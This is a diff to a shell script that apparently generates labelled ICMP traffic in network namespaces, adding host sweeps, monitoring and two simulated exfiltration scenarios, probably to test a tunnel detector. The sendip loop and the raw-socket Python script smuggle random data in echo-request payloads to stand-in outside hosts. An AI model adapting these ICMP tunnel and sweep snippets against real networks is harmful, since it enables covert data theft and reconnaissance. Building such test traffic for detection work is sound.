@@ -92,6 +92,13 @@
 #                       outside host, a 1200-byte payload_size module at a fifth server and the
 #                       other outside host (the probes are asked for over the namespace's own
 #                       loopback)
+#   sweep_packit        packit -t ICMP, one echo request (no payload, TTL 128) to each of
+#                       10.78.0.32-63
+#   exfil_sendip        a file sent out as base64 lines, one sendip echo request each, 0.3 s apart
+#   sweep_parallel_ping iputils ping -c 2 to each of 10.78.0.32-63, all started at once
+#   monitoring_external_fping  fping -l -p 1000 of the two outside hosts for 40 s
+#   exfil_scapy_varsize 120 echo requests from a raw socket to an outside host, 64-900 random
+#                       bytes each, at random gaps of 0.05-0.6 s (a hand-made tunnel's upload)
 #   ping_timestamp_admin  an admin's clock checks: clockdiff and clockdiff -o of two servers,
 #                       hping3 --icmp-ts -c 40 of a third, nmap -sn -PP of three hosts
 #   exfil_timestamp_fields  600 random bytes hidden 4 a request in the originate timestamp of
@@ -361,6 +368,35 @@ YML
     done
     sleep 4
     kill "$bb" 2>/dev/null; wait "$bb" 2>/dev/null ;;
+  sweep_packit)
+    for i in $(seq 32 63); do x ih_atk timeout 3 packit -t ICMP -K 8 -d 10.78.0.$i -c 1 >/dev/null 2>&1; done ;;
+  exfil_sendip)
+    head -c 6000 /dev/urandom | base64 -w 120 | head -n 50 > /tmp/ih_sd
+    while read -r l; do
+      x ih_atk timeout 2 sendip -p ipv4 -is 10.77.0.10 -p icmp -ct 8 -d "$l" 203.0.113.7 >/dev/null 2>&1
+      sleep 0.3
+    done < /tmp/ih_sd ;;
+  sweep_parallel_ping)
+    for i in $(seq 32 63); do x ih_atk timeout 3 ping -n -c 2 -W 1 10.78.0.$i >/dev/null 2>&1 & done
+    sleep 4 ;;
+  monitoring_external_fping)
+    x ih_mon timeout 42 fping -q -l -p 1000 203.0.113.7 198.51.100.23 >/dev/null 2>&1 ;;
+  exfil_scapy_varsize)
+    x ih_atk timeout 60 python3 -c '
+import os, random, socket, struct, time
+random.seed(7)
+s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+def csum(b):
+    if len(b) % 2: b += b"\0"
+    t = sum(struct.unpack("!%dH" % (len(b) // 2), b)); t = (t >> 16) + (t & 0xffff); t += t >> 16
+    return ~t & 0xffff
+ident = random.randrange(65536)
+for i in range(120):
+    d = os.urandom(random.randrange(64, 900))
+    c = csum(struct.pack("!BBHHH", 8, 0, 0, ident, i + 1) + d)
+    s.sendto(struct.pack("!BBHHH", 8, 0, c, ident, i + 1) + d, ("198.51.100.23", 0))
+    time.sleep(random.uniform(0.05, 0.6))
+' ;;
   ping_timestamp_admin)
     x ih_ws2 timeout 20 clockdiff 10.78.0.40 >/dev/null 2>&1
     x ih_ws2 timeout 20 clockdiff -o 10.78.0.50 >/dev/null 2>&1
